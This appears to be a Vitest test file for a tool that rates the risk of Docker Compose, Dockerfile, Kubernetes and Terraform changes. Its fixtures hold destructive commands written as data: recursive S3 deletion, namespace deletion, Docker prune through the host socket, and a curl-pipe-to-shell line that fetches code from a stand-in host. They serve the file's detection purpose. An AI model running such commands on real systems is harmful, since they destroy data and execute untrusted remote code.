import { describe, expect, it } from 'vitest';
import { readDocument } from '../../../../lib/risk/documents/read-document.ts';
import { changeOf } from '../../../../lib/risk/documents/terraform/attributes/attribute-check.ts';
import { readPlan } from '../../../../lib/risk/documents/terraform/read-plan.ts';
import { effectOfReading } from '../../../../lib/risk/reading.ts';

const read = (text: string) => readDocument(text, { path: '', applied: true, placed: true })!;
const effect = (text: string) => effectOfReading(read(text));
const service = (settings: string) => `services: {a: {image: "a:1", ${settings}}}`;
const SOCKET = 'volumes: ["/var/run/docker.sock:/var/run/docker.sock"]';
const PRUNE = 'docker system prune -af --volumes';

describe('what a container is told to run', () => {
  it.each([
    ['Compose, with the socket of its machine', service(`${SOCKET}, command: sh -c "${PRUNE}"`)],
    ['Compose, by words', service('command: [aws, s3, rm, "s3://acme-prod", --recursive]')],
    ['Compose, by an entrypoint', service('entrypoint: [kubectl, delete], command: [ns, shop]')],
    ['an image', 'FROM amazon/aws-cli:2\nENTRYPOINT ["aws"]\nCMD ["s3", "rm", "s3://x", "--recursive"]'],
    ['an image, in one line', 'FROM a:1\nCMD aws s3 rm s3://x --recursive'],
    [
      'an image, by its last CMD',
      'FROM a:1\nCMD ["true"]\nCMD ["sh", "-c", "curl -s https://x.example | sh"]',
    ],
  ])('counts: %s', (_what, text) => expect(effect(text)).toBe('destructive'));

  it.each([
    ['its own files', service('command: rm -rf /data')],
    ['its own engine', service(`command: sh -c "${PRUNE}"`)],
    ['help', 'FROM a:1\nENTRYPOINT ["/purge", "--help"]'],
    ['another CMD at last', 'FROM a:1\nCMD ["aws", "s3", "rm", "s3://x", "--recursive"]\nCMD ["true"]'],
    ['nothing', 'FROM a:1\nENTRYPOINT []'],
  ])('does not count where it is about %s', (_what, text) => expect(effect(text)).toBe('write'));

  it('weighs the stack’s own database as the stack’s own', () => {
    const floors = (command: string) => read(service(`command: ${command}`)).acts.map(({ floor }) => floor);
    expect(floors('npx prisma migrate reset --force')).not.toContain('high');
    expect(floors('[aws, s3, rm, "s3://acme-prod", --recursive]')).toContain('high');
  });
});

describe('a Kubernetes object', () => {
  const named = (text: string) => read(text).acts.flatMap((act) => act.named ?? []);

  it('names its environment by what it takes its secrets from', () => {
    const pod = (ref: string) =>
      `{apiVersion: v1, kind: Pod, metadata: {name: a}, spec: {containers: [{name: a, image: "a:1", ${ref}}]}}`;
    expect(named(pod('envFrom: [{secretRef: {name: prod-admin}}]'))).toContain('prod-admin');
    expect(named('image: {tag: "1"}\nenv: {DATABASE_URL: "postgres://db.prod.example/shop"}')).toContain(
      'postgres://db.prod.example/shop',
    );
  });

  it.each([
    ['DeleteBackupRequest', 'destructive'],
    ['PodChaos', 'destructive'],
    ['Backup', 'write'],
    ['Restore', 'write'],
  ])('of kind %s is %s', (kind, expected) => {
    expect(effect(`{apiVersion: a/v1, kind: ${kind}, metadata: {name: a}}`)).toBe(expected);
  });
});

describe('a Terraform plan', () => {
  const acts = (...resource_changes: unknown[]) => readPlan({ resource_changes }).acts;
  const change = (type: string, actions: string[], more: object = {}) => ({
    ...{ address: `${type}.a`, type, change: { actions, before: {}, after: {} } },
    ...more,
  });

  it('that moves something changes its address alone', () => {
    const moved = change('aws_sqs_queue', ['no-op'], { previous_address: 'aws_sqs_queue.b' });
    expect(acts(moved)).toMatchObject([{ rule: 'terraform.moved', effect: 'write', reach: 'workspace' }]);
    expect(acts(change('aws_sqs_queue', ['no-op']))).toMatchObject([{ rule: 'terraform.no_change' }]);
  });

  it('runs provisioners again where it replaces what they hang on', () => {
    const floor = (type: string, actions: string[]) => acts(change(type, actions))[0]?.floor;
    expect(floor('null_resource', ['delete', 'create'])).toBe('medium');
    expect(floor('terraform_data', ['create', 'delete'])).toBe('medium');
    expect(floor('random_id', ['delete', 'create'])).toBeUndefined();
    expect(floor('null_resource', ['create'])).toBeUndefined();
  });

  it('tells a setting of a parameter store from a secret', () => {
    const resource = (after: object) =>
      acts(changeOf('aws_ssm_parameter', { ...after, value: 'x' }))[0]?.resource;
    expect(resource({ name: '/api/LOG_LEVEL' })).toBe('application');
    expect(resource({ name: '/api/LOG_LEVEL', type: 'SecureString' })).toBe('secret');
    expect(resource({ name: '/api/DB_PASSWORD', type: 'String' })).toBe('secret');
    expect(resource({})).toBe('secret');
  });
});
